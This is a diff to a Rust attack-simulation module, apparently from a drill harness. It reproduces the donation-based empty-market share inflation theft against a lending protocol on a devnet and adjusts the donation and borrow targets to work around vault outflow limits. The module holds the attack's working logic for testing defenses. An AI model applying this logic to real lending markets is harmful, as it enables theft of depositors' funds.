@@ -1,6 +1,7 @@
 //! The theft: empty-market share inflation by donation (Hundred Finance 2023, Sonne 2024), in several transactions or in one.
 
 use super::DrillError;
+use super::kit::{availableCall, outflowKeyCall};
 use super::protocol::{
     ASSETS, EMPTY, Eyes, OWNER, Protocol, THIEF, allCall, borrowFromCall, call, cashCall, exitCall, mintCall,
     setUpCall, transferCall,
@@ -36,6 +37,15 @@ pub(super) struct Move {
     pub what: String,
 }
 
+/// What the vault's limit lets out now; all there is without one.
+fn outflow_max(eyes: &mut Eyes, protocol: &Protocol, vault: Address) -> Result<U256, DrillError> {
+    if protocol.kit.is_none() {
+        return Ok(U256::MAX);
+    }
+    let key = eyes.view(vault, outflowKeyCall {})?;
+    eyes.view(vault, availableCall { key })
+}
+
 impl Attack {
     /// Prepares the capital: it is the attacker's own and sits in the attack contract long before.
     ///
@@ -53,7 +63,9 @@ impl Attack {
             pools * U256::from(2) * U256::from(10_000) / U256::from(asset.factor_bps) * U256::from(13) / U256::from(10);
         let donation = needed * asset.units(1) / U256::from(asset.price_e8);
         let seed_assets = asset.units(1);
-        let (token, _) = protocol.pair(EMPTY)?;
+        let (token, vault) = protocol.pair(EMPTY)?;
+        // What could not be taken back in one go would be lost.
+        let donation = donation.min(outflow_max(&mut eyes, protocol, vault)?.saturating_sub(seed_assets));
         super::protocol::send(devnet, call(OWNER, token, mintCall { to: THIEF, amount: donation + seed_assets }))?;
         super::protocol::settle(devnet)?;
         let fund = transferCall { to: protocol.attack, amount: donation + seed_assets };
@@ -112,14 +124,30 @@ impl Attack {
         Ok(moves)
     }
 
-    /// What can be borrowed from each pool: nine tenths of the cash, so that honest withdrawals in the same block do not spoil it.
+    /// What can be borrowed from each pool: nine tenths of the cash, so that honest withdrawals in the same block do not spoil it. Where
+    /// outflows are limited, nine tenths of what the limit lets out, and no more in all than the donation secures: a thief knows
+    /// the contracts.
     fn targets(&self, devnet: &Devnet, protocol: &Protocol) -> Result<Vec<(Address, U256)>, DrillError> {
         let (mut targets, mut eyes) = (Vec::new(), Eyes::open(devnet));
-        for index in 0..EMPTY {
+        let each_usd_e8 = self.secures() / U256::from(EMPTY);
+        for (index, asset) in ASSETS.iter().enumerate().take(EMPTY) {
             let (_, vault) = protocol.pair(index)?;
-            targets.push((vault, eyes.view(vault, cashCall {})? * U256::from(9) / U256::from(10)));
+            let mut amount = eyes.view(vault, cashCall {})?.min(outflow_max(&mut eyes, protocol, vault)?)
+                * U256::from(9)
+                / U256::from(10);
+            if protocol.kit.is_some() {
+                amount = amount.min(asset.units(1) * each_usd_e8 / U256::from(asset.price_e8));
+            }
+            targets.push((vault, amount));
         }
         Ok(targets)
+    }
+
+    /// Loans that the donation secures, 1e-8 USD: the health check looks at one of two shares.
+    fn secures(&self) -> U256 {
+        let Some(asset) = ASSETS.get(EMPTY) else { return U256::ZERO };
+        asset.usd_e8(self.donation) * U256::from(asset.factor_bps) / U256::from(2 * 10_000) * U256::from(10)
+            / U256::from(13)
     }
 
     /// Attackers pay more than users do.
